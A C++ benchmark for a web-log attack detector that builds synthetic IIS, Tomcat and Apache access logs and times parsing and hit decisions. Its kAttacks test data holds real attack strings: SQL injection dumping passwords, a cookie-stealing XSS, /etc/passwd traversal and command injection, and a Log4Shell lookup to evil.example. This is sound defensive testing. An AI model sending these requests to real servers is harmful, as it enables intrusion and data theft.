// Line extraction and the hit decision per line, for each log type, on generated lines
// (fixed seed): 65536 varied requests from 2000 clients, about 1 % of them attacks. Uses
// QQWry.dat beside the programs and the stored rule set.
//
// Counts heap allocations per line through a replaced global operator new.

#include <benchmark/benchmark.h>

#include <array>
#include <atomic>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <memory>
#include <new>
#include <optional>
#include <random>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "engine/hit_decision.h"
#include "engine/ip_locator.h"
#include "engine/log_line.h"
#include "ipdb/qqwry.h"
#include "rules/compiled_rule_set.h"
#include "rules/rule_slots.h"

namespace {

std::atomic<std::uint64_t> g_allocations{0};

}  // namespace

// GCC sees malloc/free through the inlined replacements and takes them for a mismatch.
#if defined(__GNUC__) && !defined(__clang__)
#pragma GCC diagnostic ignored "-Wmismatched-new-delete"
#endif

void* operator new(std::size_t size) {
  g_allocations.fetch_add(1, std::memory_order_relaxed);
  if (void* p = std::malloc(size == 0 ? 1 : size)) return p;
  throw std::bad_alloc();
}
void operator delete(void* p) noexcept { std::free(p); }
void operator delete(void* p, std::size_t) noexcept { std::free(p); }

namespace ostrel {
namespace {

// Many more lines than the decider remembers verdicts for, so a cycle through them does not
// find the previous cycle's unique requests remembered.
constexpr std::size_t kLineCount = 65536;

// Realistic request pieces.
constexpr std::array kPaths = {
    "/",
    "/index.html",
    "/Default.aspx",
    "/products/item.php",
    "/shop/cart.jsp",
    "/api/v1/users/42",
    "/api/v2/orders",
    "/search",
    "/news/2024/05/city-council-approves-budget.html",
    "/static/css/site.css",
    "/static/js/app.min.js",
    "/images/logo.png",
    "/images/banner_Summer.JPG",
    "/favicon.ico",
    "/wp-content/uploads/2023/11/photo.jpeg",
    "/login",
    "/account/settings",
    "/download/report.pdf",
    "/docs/getting-started/",
    "/ws/chat",
};
constexpr std::array kQueries = {
    "",
    "id=@",
    "id=@&ref=home",
    "q=red+shoes&page=@",
    "q=O%27Brien+family+history",
    "q=%E4%B8%AD%E6%96%87&lang=zh-CN",
    "fields=name,email&limit=@",
    "utm_source=newsletter&utm_medium=email&utm_campaign=spring",
    "v=3.2.1",
    "sort=price_desc&category=Electronics&brand=acme",
    "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abc",
    "date=2024-05-01&tz=%2B08%3A00",
    "_=@",
};
constexpr std::array kAttacks = {
    "/products/item.php?id=1%27+UNION+SELECT+username,password+FROM+users--",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/download?file=../../../../etc/passwd",
    "/cgi-bin/status?cmd=;cat+/etc/passwd",
    "/index.php?page=php://filter/convert.base64-encode/resource=index",
    "/login?user=${jndi:ldap://evil.example/a}",
    "/struts2/index.action?redirect:%24%7B%23context%5B%27xwork.MethodAccessor.denyMethod%27%5D%7D",
    "/manager/html",
    "/.env",
    "/console/login/LoginForm.jsp",
};
constexpr std::array kAgents = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0",
    "okhttp/4.12.0",
};
constexpr std::array kMethods = {"GET", "GET", "GET", "GET", "GET", "POST", "POST", "HEAD"};
constexpr std::array kStatuses = {200, 200, 200, 200, 200, 200, 304, 301, 404, 500};

struct Request {
  std::string method, path, query, agent, address, referrer;
  int status = 200;
  int bytes = 0;
  int hour = 0, minute = 0, second = 0;
};

std::vector<Request> GenerateRequests(std::uint32_t seed) {
  std::mt19937 random(seed);
  auto pick = [&](const auto& items) { return items[random() % items.size()]; };
  std::vector<std::string> clients;
  for (int i = 0; i < 2000; ++i) {
    clients.push_back(std::to_string(1 + random() % 223) + "." + std::to_string(random() % 256) +
                      "." + std::to_string(random() % 256) + "." +
                      std::to_string(1 + random() % 254));
  }
  std::vector<Request> requests;
  for (std::size_t i = 0; i < kLineCount; ++i) {
    Request r;
    r.method = pick(kMethods);
    if (random() % 100 == 0) {
      const std::string attack = pick(kAttacks);
      const std::size_t question = attack.find('?');
      r.path = attack.substr(0, question);
      if (question != std::string::npos) r.query = attack.substr(question + 1);
    } else {
      r.path = pick(kPaths);
      // "@" stands for a number that varies from request to request (ids, pages, cache
      // busters), so dynamic requests rarely repeat while static ones do.
      for (const char c : std::string_view(pick(kQueries))) {
        if (c == '@') {
          r.query += std::to_string(random() % 100000);
        } else {
          r.query += c;
        }
      }
    }
    r.agent = pick(kAgents);
    r.address = clients[random() % clients.size()];
    r.referrer = random() % 3 == 0 ? "-" : "https://www.example.com/";
    r.status = pick(kStatuses);
    r.bytes = static_cast<int>(random() % 60000);
    r.hour = static_cast<int>(i * 24 / kLineCount);
    r.minute = static_cast<int>(random() % 60);
    r.second = static_cast<int>(random() % 60);
    requests.push_back(std::move(r));
  }
  return requests;
}

std::string TwoDigits(int value) {
  char text[4];
  std::snprintf(text, sizeof text, "%02d", value % 100);
  return text;
}

std::string IisLine(const Request& r) {
  std::string agent = r.agent;
  for (char& c : agent) c = c == ' ' ? '+' : c;
  return "2024-05-01 " + TwoDigits(r.hour) + ":" + TwoDigits(r.minute) + ":" + TwoDigits(r.second) +
         " 10.0.0.5 " + r.method + " " + r.path + " " + (r.query.empty() ? "-" : r.query) +
         " 443 - " + r.address + " " + agent + " " + std::to_string(r.status) + " 0 0 " +
         std::to_string(r.bytes) + " 512 " + std::to_string(r.bytes % 900 + 15);
}

std::string RequestText(const Request& r) {
  return r.method + " " + r.path + (r.query.empty() ? "" : "?" + r.query) + " HTTP/1.1";
}

std::string TimeText(const Request& r) {
  return "[01/May/2024:" + TwoDigits(r.hour) + ":" + TwoDigits(r.minute) + ":" +
         TwoDigits(r.second) + " +0800]";
}

// Tomcat's default access log: the common layout.
std::string TomcatLine(const Request& r) {
  return r.address + " - - " + TimeText(r) + " \"" + RequestText(r) + "\" " +
         std::to_string(r.status) + " " + std::to_string(r.bytes);
}

// Apache/Nginx: the combined layout with referrer and user agent.
std::string ApacheLine(const Request& r) {
  return r.address + " - - " + TimeText(r) + " \"" + RequestText(r) + "\" " +
         std::to_string(r.status) + " " + std::to_string(r.bytes) + " \"" + r.referrer + "\" \"" +
         r.agent + "\"";
}

const std::vector<std::string>& Lines(LogType type) {
  static const std::array<std::vector<std::string>, 3> lines = [] {
    std::array<std::vector<std::string>, 3> all;
    for (const Request& r : GenerateRequests(20240501)) {
      all[0].push_back(IisLine(r));
      all[1].push_back(TomcatLine(r));
      all[2].push_back(ApacheLine(r));
    }
    return all;
  }();
  return lines[static_cast<std::size_t>(type)];
}

// The real database beside the programs, when the build copied it there.
const TQQWry* Database() {
  static const std::unique_ptr<TQQWry> reader = []() -> std::unique_ptr<TQQWry> {
    const std::filesystem::path path = std::filesystem::path(OSTREL_BINARY_DIR) / "bin/QQWry.dat";
    std::error_code error;
    if (!std::filesystem::is_regular_file(path, error)) return nullptr;
    auto made = std::make_unique<TQQWry>(path.string());
    return made->HasDatabase() ? std::move(made) : nullptr;
  }();
  return reader.get();
}

IpLocator MakeLocator() {
  if (const TQQWry* reader = Database()) return IpLocator(*reader);
  return IpLocator([](std::string_view) { return std::string("美国 加利福尼亚州"); });
}

void Label(benchmark::State& state, bool decide) {
  std::string label = Database() ? "QQWry.dat" : "fake locations";
  if (decide) label += ", stored rules";
  state.SetLabel(label);
}

// Extraction alone. Arguments: log type.
void BM_Extract(benchmark::State& state) {
  const auto type = static_cast<LogType>(state.range(0));
  const std::vector<std::string>& lines = Lines(type);
  IpLocator locator = MakeLocator();
  LineExtractor extractor(type, locator);
  for (const std::string& line : lines) extractor.ExtractLogLine(line);  // warm the buffers

  std::size_t next = 0;
  std::uint64_t extracted = 0;
  const std::uint64_t allocations_before = g_allocations.load();
  for (auto _ : state) {
    const std::optional<TLogLine> got = extractor.ExtractLogLine(lines[next]);
    extracted += got.has_value();
    benchmark::DoNotOptimize(got);
    if (++next == lines.size()) next = 0;
  }
  const std::uint64_t allocations = g_allocations.load() - allocations_before;
  state.SetItemsProcessed(state.iterations());
  state.counters["allocs_per_line"] = benchmark::Counter(static_cast<double>(allocations) /
                                                         static_cast<double>(state.iterations()));
  state.counters["extracted"] =
      benchmark::Counter(static_cast<double>(extracted) / static_cast<double>(state.iterations()));
  Label(state, false);
}

// Extraction and decision. Arguments: log type, rule set, filters on (both) or off (both).
void BM_ExtractDecide(benchmark::State& state) {
  const auto type = static_cast<LogType>(state.range(0));
  RunOptions options;
  options.log_type = type;
  options.rule_set = static_cast<RuleSet>(state.range(1));
  options.drop_static = state.range(2) != 0;
  options.status_200_only = state.range(2) != 0;
  const std::vector<std::string>& lines = Lines(type);
  IpLocator locator = MakeLocator();
  LineExtractor extractor(type, locator);
  const CompiledRuleSet rules(StoredRuleSlots(), SlotCountOf(options.rule_set));
  HitDecider decider(options, rules);
  for (const std::string& line : lines) {  // warm buffers, caches and the compiled slots
    if (const auto got = extractor.ExtractLogLine(line)) decider.IsSuspiciousLine(*got);
  }

  std::size_t next = 0;
  std::uint64_t hits = 0;
  const std::uint64_t allocations_before = g_allocations.load();
  for (auto _ : state) {
    if (const std::optional<TLogLine> got = extractor.ExtractLogLine(lines[next])) {
      hits += decider.IsSuspiciousLine(*got);
    }
    if (++next == lines.size()) next = 0;
  }
  const std::uint64_t allocations = g_allocations.load() - allocations_before;
  state.SetItemsProcessed(state.iterations());
  state.counters["allocs_per_line"] = benchmark::Counter(static_cast<double>(allocations) /
                                                         static_cast<double>(state.iterations()));
  state.counters["hit_rate"] =
      benchmark::Counter(static_cast<double>(hits) / static_cast<double>(state.iterations()));
  Label(state, true);
}

BENCHMARK(BM_Extract)->ArgName("type")->DenseRange(0, 2);
BENCHMARK(BM_ExtractDecide)
    ->ArgNames({"type", "broad", "filters"})
    ->ArgsProduct({{0, 1, 2}, {0, 1}, {0, 1}});

}  // namespace
}  // namespace ostrel

BENCHMARK_MAIN();
